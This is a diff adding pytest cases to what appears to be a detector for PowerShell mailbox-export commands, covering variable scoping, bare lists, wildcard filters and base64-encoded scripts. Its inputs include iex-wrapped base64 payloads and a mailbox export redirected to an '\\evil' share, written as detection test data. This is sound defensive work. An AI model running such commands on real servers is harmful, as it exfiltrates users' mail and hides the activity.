@@ -146,6 +146,90 @@ def test_a_loop_variable_over_mailboxes_counts_like_the_pipeline() -> None:
     assert [HoleKind.UNKNOWN] == [hole.kind for hole in line.mailboxes[0].holes]
 
 
+@pytest.mark.parametrize(
+    "loop",
+    [
+        "foreach($m in Get-Mailbox){{$p='{0}'; New-MailboxExportRequest $m.Guid -FilePath $p}}",
+        "Get-Mailbox | % {{$p='{0}'; $_ | New-MailboxExportRequest -FilePath $p}}",
+        "foreach($m in Get-Mailbox){{$a=@{{Mailbox=$m.Guid;FilePath='{0}'}}; New-MailboxExportRequest @a}}",
+        "if($true){{$p='{0}'; New-MailboxExportRequest a -FilePath $p}}",
+    ],
+)
+def test_what_a_block_sets_is_fixed_in_the_rest_of_it(loop: str) -> None:
+    """Whether it runs once, often or never: where the next line runs, the line before has run."""
+    (export,) = read(loop.format(TARGET)).exports
+
+    assert export.target is not None
+    assert TARGET == export.target.literal
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "foreach($m in 'a','b'){{New-MailboxExportRequest $m -FilePath $p; $p='{0}'}}",
+        "if($x){{$p='{0}'}}; New-MailboxExportRequest a -FilePath $p",
+        "foreach($m in 'a'){{$p='{0}'}}; New-MailboxExportRequest a -FilePath $p",
+        "if($x){{$p='{0}'}} else {{New-MailboxExportRequest a -FilePath $p}}",
+        "try{{$p='{0}'}} catch {{New-MailboxExportRequest a -FilePath $p}}",
+        "foreach($m in 'a'){{if($x){{$p='{0}'}}; New-MailboxExportRequest $m -FilePath $p}}",
+        "foreach($m in 'a'){{$p='{0}'; $p+='x'; New-MailboxExportRequest $m -FilePath $p}}",
+        "foreach($m in 'a'){{$p='{0}'; sv p '\\\\evil\\x'; New-MailboxExportRequest $m -FilePath $p}}",
+        "'a' | % -Begin {{$p='{0}'}} -Process {{New-MailboxExportRequest $_ -FilePath $p}}",
+        "$b={{$p='{0}'}}; & $b; New-MailboxExportRequest a -FilePath $p",
+    ],
+)
+def test_what_a_block_sets_is_known_nowhere_else(script: str) -> None:
+    """Before it, after it, in another branch, or once something else may have changed it."""
+    line = read(script.format(TARGET))
+
+    fixed = [export.target and export.target.literal for export in line.exports]
+    assert TARGET not in fixed or line.flags
+
+
+def hidden(script: str, encoding: str = "utf-16-le", *, before: str = "", after: str = "") -> str:
+    """Base64 of the script between other letters."""
+    return base64.b64encode(f"{before}{script}{after}".encode(encoding)).decode()
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-8"])
+@pytest.mark.parametrize("before", ["", ";", "a;", "ab;"])
+@pytest.mark.parametrize(
+    "wrapped",
+    [
+        "iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{}')))",
+        "$c='{}'; iex (decode $c)",
+        "[ScriptBlock]::Create((decode '{}')).Invoke()",
+        "Write-Host {}",
+        "decode 'aaa{}'",
+    ],
+)
+def test_base64_that_names_our_cmdlets_is_read_wherever_it_stands(
+    wrapped: str, before: str, encoding: str
+) -> None:
+    """Something will decode it: it is shown, read, and never closable."""
+    line = read(wrapped.format(hidden(EXPORT, encoding, before=before, after="; exit")))
+
+    assert CommandFlag.ENCODED in {raised.flag for raised in line.flags}
+    assert any("New-MailboxExportRequest" in script for script in line.decoded)
+    assert TARGET in [export.target and export.target.literal for export in line.exports]
+
+
+def test_base64_inside_base64_is_read_too() -> None:
+    """Each layer as the one above it."""
+    inner = f"iex (decode '{hidden(EXPORT)}')"
+    line = read_command_line(f"{POWERSHELL} -enc {hidden(inner)}", process_name=POWERSHELL)
+
+    assert TARGET in [export.target and export.target.literal for export in line.exports]
+
+
+def test_other_base64_says_nothing() -> None:
+    """A picture, a certificate, a script of somebody else's."""
+    line = read(f"Write-Host {hidden('Get-Date; ' * 40)}")
+
+    assert ((), ()) == (line.exports, line.decoded)
+    assert CommandFlag.ENCODED not in {raised.flag for raised in line.flags}
+
+
 def test_a_loop_over_a_literal_list_makes_one_export_for_each() -> None:
     """Each element is fixed by the text, so each export is."""
     line = read("foreach($m in 'a','b'){New-MailboxExportRequest $m -FilePath \"\\\\F\\R\\$m.pst\"}")
@@ -162,6 +246,12 @@ def test_a_loop_over_a_literal_list_makes_one_export_for_each() -> None:
         ("Get-Date -f 'yyyy-MM-dd'", HoleKind.DATE),
         ("Get-Date -UFormat '%Y_%m_%d'", HoleKind.DATE),
         ("(Get-Date).ToString('yyyy')", HoleKind.DATE),
+        ("Get-Date -Format FileDate", HoleKind.DATE),
+        ("Get-Date -Format filedatetime", HoleKind.DATE),
+        ("Get-Date -Format FileDateUniversal", HoleKind.DATE),
+        ("Get-Date -f 'FileDateTimeUniversal'", HoleKind.DATE),
+        ("Get-Date -Format FileDates", HoleKind.UNKNOWN),
+        ("Get-Date -UFormat FileDate", HoleKind.UNKNOWN),
         ("Get-Date", HoleKind.UNKNOWN),
         ("Get-Date -Format d", HoleKind.UNKNOWN),
         ("Get-Date -Format '..\\..\\c$'", HoleKind.UNKNOWN),
@@ -233,9 +323,80 @@ def test_statuses_joined_by_or_count_together() -> None:
 
 
 @pytest.mark.parametrize(
+    "written",
+    [
+        "-Status Completed,CompletedWithWarning",
+        "-Status:Completed,CompletedWithWarning",
+        "-Status Completed,completedwithwarning,Completed -BatchName J",
+        "| ? Status -in Completed,CompletedWithWarning",
+    ],
+)
+def test_a_bare_list_is_read_like_a_quoted_one(written: str) -> None:
+    """`a,b` without quotes or blanks is a list of words, however many."""
+    line = read(f"Get-MailboxExportRequest {written} | Remove-MailboxExportRequest -Confirm:$false")
+
+    assert (set(), [frozenset({"Completed", "CompletedWithWarning"})]) == (
+        flags(line),
+        [removal.statuses for removal in line.removals],
+    )
+
+
+def test_a_bare_list_of_mailboxes_is_each_of_them() -> None:
+    """No mailbox of the list is lost, whatever stands before or after it."""
+    (export,) = read(f"New-MailboxExportRequest -Mailbox a,b.c,d@contoso.com -FilePath '{TARGET}'").exports
+
+    assert ("a", "b.c", "d@contoso.com") == literals(export.mailboxes)
+
+
+@pytest.mark.parametrize("parameter", ["Name", "BatchName", "FilePath"])
+def test_a_bare_list_where_one_value_is_wanted_is_not_fixed(parameter: str) -> None:
+    """Neither word of it is taken for the value."""
+    (export,) = read(f"New-MailboxExportRequest a -{parameter} b,c").exports
+    values = {"Name": export.name, "BatchName": export.batch_name, "FilePath": export.target}
+
+    assert "b,c" == getattr(values[parameter], "shown", None)
+    assert getattr(values[parameter], "literal", "fixed") is None
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "Completed,$s",
+        "Completed,1",
+        "Completed,-Name",
+        "Completed,#x",
+        "Completed,@s",
+        "Completed,b$s",
+        "Completed,b`c",
+        "Completed,(x)",
+        "Completed,b(x)",
+        "Completed,b{x}",
+        "Completed,b>c",
+        "Completed,,b",
+        "Completed,b,",
+        "Completed, b",
+        'Completed,b"c"',
+        "Completed,ｂ",
+        ",Completed,b",
+        "$s,b",
+        "(x)b,c",
+    ],
+)
+def test_a_list_of_anything_but_plain_words_is_told(words: str) -> None:
+    """A number, variable, sign, comment, call or blank in it: the grammar and PowerShell may part ways."""
+    line = read(f"Get-MailboxExportRequest -Status {words} | Remove-MailboxExportRequest; {EXPORT}")
+
+    assert CommandFlag.UNPARSED in flags(line)
+
+
+@pytest.mark.parametrize(
     "condition",
     [
-        "{$_.Name -like 'J*'}",
+        "{$_.Name -like '*'}",
+        "{$_.Name -like 'J*K*'}",
+        "{$_.Name -like '[J]_*'}",
+        "{$_.Name -notlike 'J_*'}",
+        "{$_.RequestGuid -like 'J_*'}",
         "{$_.Status -eq 'Completed' -or $true}",
         "{$true; $_.Status -eq 'Completed'}",
         "{$_.Status -ne 'Failed'}",
@@ -250,6 +411,26 @@ def test_a_filter_that_is_not_understood_never_narrows(condition: str) -> None:
     (removal,) = read(f"Get-MailboxExportRequest | ? {condition} | Remove-MailboxExportRequest").removals
 
     assert (True, None, None) == (removal.unread_filter, removal.statuses, removal.name)
+
+
+def test_a_pattern_with_a_literal_beginning_names_what_begins_so() -> None:
+    """`J_*` is J_ and whatever follows; the letters before the star are all that is known."""
+    (removal,) = read(
+        "Get-MailboxExportRequest | ? {$_.BatchName -like 'J_*'} | Remove-MailboxExportRequest"
+    ).removals
+
+    assert removal.batch_name == Value(("J_", Hole(HoleKind.WILDCARD, "*")))
+    assert not removal.unread_filter
+
+
+def test_among_is_no_beginning_of_a_parameter_that_sets_a_variable() -> None:
+    """`-in` is Where-Object's own; `-InformationVariable` and `-infa` share that beginning."""
+    (removal,) = read(
+        "Get-MailboxExportRequest -BatchName J | where Status -in 'Completed','Failed'"
+        " | Remove-MailboxExportRequest"
+    ).removals
+
+    assert (frozenset({"Completed", "Failed"}), False) == (removal.statuses, removal.unread_filter)
 
 
 @pytest.mark.parametrize(
